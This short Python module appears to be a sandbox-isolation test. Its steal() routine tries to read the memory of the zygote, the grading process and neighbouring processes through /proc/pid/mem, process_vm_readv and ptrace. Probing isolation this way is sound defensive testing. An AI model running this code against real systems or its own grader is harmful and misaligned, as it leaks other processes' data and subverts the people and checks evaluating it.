"""Read the memory of the zygote, the grading process and the neighbours."""
# INCLUDE honest

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def ancestors():
    pid = os.getppid()
    while pid > 1:
        yield pid
        try:
            with open(f"/proc/{pid}/stat") as file:
                pid = int(file.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return


def by_proc(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            span, access, *_ = line.split()
            if access.startswith("rw"):
                start, _ = (int(end, 16) for end in span.split("-"))
                memory.seek(start)
                return f"memory of {pid} at {start:x}: {memory.read(64)!r}"
    return None


def by_call(pid):
    """process_vm_readv at the address of an object of our own: a fork has it at the same place."""

    class Span(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    room = ctypes.create_string_buffer(64)
    here, there = Span(ctypes.addressof(room), 64), Span(id(os), 64)
    count = libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    return f"{count} bytes of {pid}: {room.raw!r}" if count > 0 else None


def by_ptrace(pid):
    SEIZE, DETACH, PEEK = 0x4206, 17, 2
    if libc.ptrace(SEIZE, pid, None, None) == 0:
        libc.ptrace(DETACH, pid, None, None)
        return f"attached to {pid}"
    return None


def steal():
    for pid in (*ancestors(), *(os.getpid() + i for i in (-3, -2, -1, 1, 2, 3))):
        for route in (by_proc, by_call, by_ptrace):
            try:
                found = route(pid)
            except OSError:
                continue
            if found:
                return found
    return None


# INCLUDE report
